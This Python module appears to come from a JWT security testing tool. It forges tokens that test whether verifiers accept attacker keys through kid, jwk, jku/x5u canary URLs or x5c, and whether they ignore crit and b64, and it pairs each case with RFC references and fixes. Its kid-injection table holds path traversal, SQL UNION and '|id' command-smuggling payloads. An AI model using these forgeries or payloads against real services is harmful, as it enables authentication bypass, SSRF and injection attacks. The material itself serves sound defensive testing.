"""Does the token choose its own key, or have its header ignored (RFC 7515 §4, RFC 8725 §3.10)?"""

import base64
import hashlib
from collections.abc import Iterator
from typing import Final
from urllib.parse import urlsplit

from keyturn.attack.case import Case
from keyturn.attack.certificate import self_signed
from keyturn.attack.crafting import compact, encode_json, hmac_signer
from keyturn.attack.material import Material
from keyturn.attack.model import Need, Severity, Shot, bearer
from keyturn.tokens import base64url


def _unknown_kid(material: Material) -> Iterator[Shot]:
    yield bearer("another key under the right kid", material.by_stranger())
    yield bearer("another key under a kid of its own", material.by_stranger(kid=material.stranger.kid))
    yield bearer("another key without a kid", material.by_stranger(kid=None))
    yield bearer("another key under an empty kid", material.by_stranger(kid=""))


def _embedded_jwk(material: Material) -> Iterator[Shot]:
    jwk = material.stranger.public.to_jwk()
    yield bearer("jwk, and its kid", material.by_stranger(jwk=jwk, kid=jwk["kid"]))
    yield bearer("jwk under the issuer's kid", material.by_stranger(jwk=jwk | {"kid": material.header.get("kid")}))
    yield bearer("jwk without a kid", material.by_stranger(jwk=jwk, kid=None))


def _jku_fetch(material: Material) -> Iterator[Shot]:
    kid, url = material.stranger.kid, f"{material.canary}/jwks.json"
    yield bearer("jku", material.by_stranger(jku=url, kid=kid))
    yield bearer("jku under the issuer's kid", material.by_stranger(jku=url))
    yield bearer("x5u", material.by_stranger(x5u=f"{material.canary}/certificate.pem", kid=kid))
    header = material.own_header(alg=material.stranger.algorithm.value, kid=kid)
    elsewhere = compact(header, material.fresh_claims(iss=material.canary), material.stranger.sign)
    yield bearer("the keys of the issuer that it names", elsewhere)
    issuer = material.claims.get("iss")
    if isinstance(issuer, str) and "://" in issuer:
        place = urlsplit(material.canary)
        behind = f"{place.scheme}://{issuer.partition('://')[2]}@{place.netloc}/jwks.json"
        yield bearer("jku that begins like the issuer", material.by_stranger(jku=behind, kid=kid))


def _x5c_header(material: Material) -> Iterator[Shot]:
    certificate = self_signed(material.stranger, now=material.now)
    print_ = base64url.encode(hashlib.sha256(base64.b64decode(certificate)).digest())
    yield bearer("x5c", material.by_stranger(x5c=[certificate], kid=None))
    yield bearer("x5c under the issuer's kid", material.by_stranger(x5c=[certificate]))
    yield bearer("x5c and x5t#S256", material.by_stranger(**{"x5c": [certificate], "x5t#S256": print_, "kid": None}))


def _kid_injection(material: Material) -> Iterator[Shot]:
    for kid, secret in _INJECTED:
        header = material.own_header(alg="HS256", kid=kid)
        token = compact(header, material.fresh_claims(), hmac_signer("HS256", secret))
        yield bearer(f"kid {kid!r}", token)
    for strange in _STRANGE_KIDS:
        yield bearer(f"kid {str(strange)[:16]!r}", material.by_stranger(kid=strange))


def _crit_ignored(material: Material) -> Iterator[Shot]:
    for variant, members in (
        ("an unknown extension", {"crit": ["urn:example:keyturn-attack"], "urn:example:keyturn-attack": True}),
        ("an extension that is not there", {"crit": ["urn:example:keyturn-attack"]}),
        ("an empty list", {"crit": []}),
        ("a text", {"crit": "exp"}),
        ("a number in it", {"crit": [0]}),
    ):
        yield bearer(variant, material.signed(material.fresh_claims(), material.own_header(**members)))


def _b64_ignored(material: Material) -> Iterator[Shot]:
    header = material.own_header(b64=False, crit=["b64"])
    claims = material.fresh_claims()
    yield bearer("b64 false over an encoded payload", material.signed(claims, header))
    if material.signer is not None:
        head, payload = base64url.encode(encode_json(header)), encode_json(claims).decode()
        signature = base64url.encode(material.signer.sign(f"{head}.{payload}".encode()))
        yield bearer("b64 false over a plain payload", f"{head}.{payload}.{signature}")


_INJECTED: Final = (
    ("../../../../../../../../dev/null", b""),
    ("/dev/null", b""),
    ("file:///dev/null", b""),
    ("../../../../../../../../proc/sys/kernel/ostype", b"Linux\n"),
    ("x' UNION SELECT 'keyturn", b"keyturn"),
    ("x' UNION SELECT 'keyturn' -- ", b"keyturn"),
    ('x" UNION SELECT "keyturn" -- ', b"keyturn"),
    ("-1 UNION SELECT 'keyturn' -- ", b"keyturn"),
)

_STRANGE_KIDS: Final[tuple[object, ...]] = ("' OR 1=1 --", "|id", 0, True, [], {}, "\x00", "k" * 3000)

CASES: Final = (
    Case(
        id="unknown-kid",
        title="A token that another key signed is accepted",
        severity=Severity.HIGH,
        meaning="Where the key is not known, or only its name is right, the signature does not count.",
        mend="Refuse a token whose `kid` names no key of the issuer's, and verify with the key that it names.",
        reference="RFC 7515 §4.1.4, §5.2",
        need=Need.JWT,
        forge=_unknown_kid,
        covered_by=("any-signature",),
    ),
    Case(
        id="embedded-jwk",
        title="The key that a token brings along is believed",
        severity=Severity.HIGH,
        meaning="The thief signs with a key of their own and sends it in the header `jwk`.",
        mend="Ignore `jwk`; keys come from your configuration or the issuer's key set alone.",
        reference="RFC 8725 §3.10, CVE-2018-0114",
        need=Need.JWT,
        forge=_embedded_jwk,
        covered_by=("any-signature", "unknown-kid"),
    ),
    Case(
        id="jku-fetch",
        title="A URL in a token is fetched",
        severity=Severity.HIGH,
        meaning="The thief names where the keys are, by `jku`, `x5u` or `iss`: own tokens, requests from inside.",
        mend="Ignore `jku` and `x5u`; fetch keys from the URLs of issuers that you have named, and from no other.",
        reference="RFC 8725 §3.10, RFC 7515 §10.4",
        need=Need.JWT,
        forge=_jku_fetch,
        covered_by=("any-signature", "unknown-kid"),
    ),
    Case(
        id="x5c-header",
        title="The certificate that a token brings along is believed",
        severity=Severity.HIGH,
        meaning="The thief signs with a key of their own and sends a certificate that nobody vouches for.",
        mend="Ignore `x5c`, or verify the chain up to an authority of your own.",
        reference="RFC 7515 §4.1.6, RFC 8725 §3.10",
        need=Need.JWT,
        forge=_x5c_header,
        covered_by=("any-signature", "unknown-kid"),
    ),
    Case(
        id="kid-injection",
        title="A `kid` reaches a file or a query",
        severity=Severity.HIGH,
        meaning="The thief makes the look-up of the key return what they know: an empty file, a constant of SQL.",
        mend="Look the `kid` up in a table in memory, and nowhere else.",
        reference="RFC 8725 §3.10",
        need=Need.JWT,
        forge=_kid_injection,
        covered_by=("any-signature", "unknown-kid", "empty-key"),
    ),
    Case(
        id="crit-ignored",
        title="A critical header that is not understood is ignored",
        severity=Severity.MEDIUM,
        meaning="What the issuer requires to be checked, such as a binding, is passed over silently.",
        mend="Refuse a token with `crit`, unless you understand each name in it.",
        reference="RFC 7515 §4.1.11, CVE-2025-59420",
        need=Need.KEY,
        forge=_crit_ignored,
    ),
    Case(
        id="b64-ignored",
        title="A token with `b64` is accepted",
        severity=Severity.MEDIUM,
        meaning="Two programs read one token differently: the one that verifies, and the one that uses it.",
        mend="Refuse `b64`: a JWT never has it.",
        reference="RFC 7797 §7",
        need=Need.KEY,
        forge=_b64_ignored,
        covered_by=("crit-ignored",),
    ),
)
